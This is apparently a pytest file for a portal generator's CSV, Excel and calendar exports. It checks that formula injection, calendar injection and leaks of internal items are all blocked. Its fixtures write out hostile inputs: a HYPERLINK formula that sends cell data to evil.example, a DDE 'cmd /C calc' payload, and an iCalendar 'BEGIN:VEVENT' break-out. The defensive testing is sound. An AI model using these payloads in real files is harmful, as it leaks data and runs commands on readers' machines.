"""The downloads: the registers as CSV and Excel, the calendars and the JSON, as a reader opens them.

Source text is untrusted: in a spreadsheet it must never become a formula, in a calendar it must never
end a property or start an event, and nothing internal may be in any file of a client build.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import icalendar
import openpyxl
import pytest

from generator.render.exports import downloads
from generator.render.exports.spreadsheets import FORMULA_TRIGGERS
from generator.checks.validate import validate_repository

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
HOSTILE = {
    "risks/register.yaml": f"""\
        - id: R-001
          title: '{HOSTILE_TITLE.replace("'", "''")}'
          category: security
          owner: "+1 555 0100 (call)"
          likelihood: 4
          impact: 5
          mitigations: [backup]
          frameworks: ["@SUM(1+1)*cmd|' /C calc'!A0"]
        - id: R-002
          title: Secret merger risk
          category: strategic
          owner: CEO
          likelihood: 2
          impact: 5
          visibility: internal
        """,
    "roadmap/initiatives.yaml": """\
        - id: backup
          title: "-2+3 backups"
          status: in-progress
          start: 2026-10
          end: 2027-03
          owner: "\\t=1+1"
          milestones:
            - title: "Restore test, then sign-off; done\\\\n\\nBEGIN:VEVENT\\nSUMMARY:injected"
              date: 2027-01-15
        - id: project-falcon
          title: Project Falcon acquisition systems
          status: planned
          start: 2027-01
          end: 2027-06
          visibility: internal
          mitigates: [R-001]
        """,
    "vendors/vendors.yaml": """\
        - id: keeper
          name: "Keeper, Inc.; \\"password\\" vault \\\\ team"
          category: security
          cost: {amount: 1200, per: year}
          contract: {start: 2026-01-01, end: 2027-01-31, notice_days: 30, auto_renew: true}
        - id: falcon-advisors
          name: Falcon Advisors LLP
          category: advisory
          cost: {amount: 90000, per: year}
          contract: {end: 2027-03-31, notice_days: 60}
          visibility: internal
        """,
}
SECRETS = ["Secret merger risk", "R-002", "project-falcon", "Project Falcon", "falcon-advisors", "Falcon Advisors"]


@pytest.fixture
def hostile_downloads(make_repo):
    root = make_repo(HOSTILE)
    validation = validate_repository(root / "mkdocs.yml")
    assert validation.ok, [p.format() for p in validation.problems.sorted()]
    portal = validation.portal.for_audience(validation.portal.settings.audience)
    return {Path(d.path).name: d for d in downloads(portal)}


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would misread accented names"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_csv_cells_never_start_a_formula(hostile_downloads):
    rows = read_csv(hostile_downloads["risks.csv"].content)
    header, risk = rows[0], rows[1]
    record = dict(zip(header, risk))
    assert record["Risk"] == "'" + HOSTILE_TITLE  # shown as written, apostrophe hidden by the spreadsheet
    assert record["Owner"] == "'+1 555 0100 (call)"
    assert record["Frameworks"].startswith("'@SUM")
    assert record["Score"] == "20" and record["Likelihood"] == "4"  # numbers stay numbers
    roadmap = dict(zip(*read_csv(hostile_downloads["roadmap.csv"].content)[:2]))
    assert roadmap["Initiative"] == "'-2+3 backups"
    assert roadmap["Owner"] == "'\t=1+1"
    for name in ("roadmap.csv", "risks.csv", "vendors.csv", "kpis.csv"):
        for row in read_csv(hostile_downloads[name].content):
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), f"{name}: {cell!r} would run as a formula"


def test_workbook_keeps_text_as_text(hostile_downloads):
    content = hostile_downloads["portal.xlsx"].content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == [
        "About",
        "Roadmap",
        "Risk register",
        "Vendors",
        "Goals and KPIs",
        "Decisions",
        "90-day plan actions",
        "KPI measurements",
    ]
    risk = workbook["Risk register"]["B2"]
    assert risk.value == HOSTILE_TITLE and risk.data_type == "s"  # exactly as written, and a string
    assert workbook["Roadmap"]["G2"].value == "\t=1+1"
    assert workbook["Risk register"]["H2"].value == 20  # the score is a number to sort and sum
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_calendar_text_cannot_break_out_of_its_property(hostile_downloads):
    raw = hostile_downloads["milestones.ics"].content
    calendar = icalendar.Calendar.from_ical(raw)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 1  # the milestone's text did not start a second event
    assert str(events[0]["SUMMARY"]) == (
        "-2+3 backups: Restore test, then sign-off; done\\n\nBEGIN:VEVENT\nSUMMARY:injected"
    )
    lines = raw.split(b"\r\n")
    assert raw.endswith(b"\r\n") and all(b"\n" not in line for line in lines)
    assert sum(line == b"BEGIN:VEVENT" for line in lines) == 1
    assert all(len(line) <= 75 for line in lines)  # folded, as RFC 5545 requires


def test_contract_deadlines_calendar(hostile_downloads):
    calendar = icalendar.Calendar.from_ical(hostile_downloads["contract-deadlines.ics"].content)
    events = {str(e["UID"]): e for e in calendar.walk("VEVENT")}
    notice = events["vendor-keeper-notice@test-client.ctoportal"]
    assert notice.decoded("DTSTART").isoformat() == "2027-01-01"  # 30 days before the end on 2027-01-31
    assert str(notice["SUMMARY"]) == 'Notice deadline: Keeper, Inc.; "password" vault \\ team'
    assert "renews automatically on Jan 31, 2027" in str(notice["DESCRIPTION"])
    assert list(notice.walk("VALARM"))  # a reminder two weeks before
    assert str(events["vendor-keeper-end@test-client.ctoportal"]["SUMMARY"]).endswith("contract renews automatically")


def test_nothing_internal_in_any_download(hostile_downloads):
    for name, download in hostile_downloads.items():
        texts = [download.content]
        if name.endswith(".xlsx"):
            with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
                texts = [archive.read(n) for n in archive.namelist()]
        for text in texts:
            for secret in SECRETS:
                assert secret.encode() not in text, f"{secret!r} leaked into {name}"
    # The visible risk is still there, without the internal initiative among its mitigations.
    record = dict(zip(*read_csv(hostile_downloads["risks.csv"].content)[:2]))
    assert record["Mitigations"] == "backup"


def test_same_sources_give_the_same_bytes(make_repo):
    root = make_repo(HOSTILE)
    first, second = (
        {d.path: d.content for d in downloads(validate_repository(root / "mkdocs.yml").portal)} for _ in range(2)
    )
    assert first == second
    # Dated by the portal's as-of date, not the clock: a rebuild tomorrow gives the same bytes too.
    calendar = icalendar.Calendar.from_ical(first["downloads/contract-deadlines.ics"])
    assert {e.decoded("DTSTAMP").isoformat() for e in calendar.walk("VEVENT")} == {"2026-11-20T00:00:00+00:00"}
    workbook = openpyxl.load_workbook(io.BytesIO(first["downloads/portal.xlsx"]))
    assert workbook.properties.created.isoformat().startswith("2026-11-20T00:00:00")


@pytest.mark.slow
def test_downloads_page_links_every_file(demo_site):
    from bs4 import BeautifulSoup

    page = demo_site / "downloads" / "index.html"
    links = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").select("article a[download]")
    # The demo has controls, frameworks and AI uses (3 more CSV files), and decisions, actions and KPI
    # measurements (3 more) with a calendar of what is due (1 more).
    assert len(links) == 15
    for link in links:
        target = (page.parent / link["href"]).resolve()
        assert target.is_file() and target.stat().st_size > 0, link["href"]
        assert link["download"].startswith("brightside-dental-partners-")
        assert link["download"].endswith("-2026-11-20" + target.suffix)


@pytest.mark.slow
def test_demo_vendor_csv_matches_the_vendor_pages(demo_site):
    rows = read_csv((demo_site / "downloads" / "vendors.csv").read_bytes())
    by_id = {row[0]: dict(zip(rows[0], row)) for row in rows[1:]}
    dentrix = by_id["dentrix"]
    assert dentrix["Notice by"] == "2026-12-31" and dentrix["Auto-renews"] == "yes"
    assert "summit-msp" not in by_id  # internal in the demo


@pytest.mark.browser
def test_a_reader_downloads_the_workbook_under_a_dated_name(demo_site, serve_dir, page_watch, tmp_path):
    base = serve_dir(demo_site)
    page = page_watch
    page.goto(f"{base}/downloads/")
    with page.expect_download() as info:
        page.get_by_role("link", name="Everything in one workbook").click()
    download = info.value
    assert download.suggested_filename == "brightside-dental-partners-portal-2026-11-20.xlsx"
    download.save_as(tmp_path / download.suggested_filename)
    workbook = openpyxl.load_workbook(tmp_path / download.suggested_filename)
    assert workbook["Risk register"]["A2"].value == "R-001"
    assert not page.external_requests and not page.console_errors


def test_export_command_writes_the_downloads_without_a_site(make_repo, tmp_path):
    from conftest import run_ctoportal

    root = make_repo(HOSTILE)
    result = run_ctoportal("export", "-o", str(tmp_path / "board"), cwd=root)
    assert result.returncode == 0, result.stderr
    names = sorted(p.name for p in (tmp_path / "board").iterdir())
    assert names == sorted(
        f"test-client-{n}-2026-11-20.{ext}"
        for n, ext in [
            ("portal", "xlsx"),
            ("roadmap", "csv"),
            ("risks", "csv"),
            ("vendors", "csv"),
            ("kpis", "csv"),
            ("decisions", "csv"),
            ("actions", "csv"),
            ("kpi-measurements", "csv"),
            ("contract-deadlines", "ics"),
            ("milestones", "ics"),
            ("decisions-and-actions", "ics"),
            ("data", "json"),
        ]
    )
    assert not (root / "site").exists()
    assert b"Secret merger risk" not in (tmp_path / "board" / "test-client-risks-2026-11-20.csv").read_bytes()


def test_export_command_reports_invalid_sources_and_writes_nothing(make_repo, tmp_path):
    from conftest import run_ctoportal

    root = make_repo({"risks/register.yaml": "- id: R-001\n  title: No owner\n  likelihood: 9\n"})
    result = run_ctoportal("export", "-o", str(tmp_path / "board"), cwd=root)
    assert result.returncode == 1
    assert "risks/register.yaml:3:" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "board").exists()
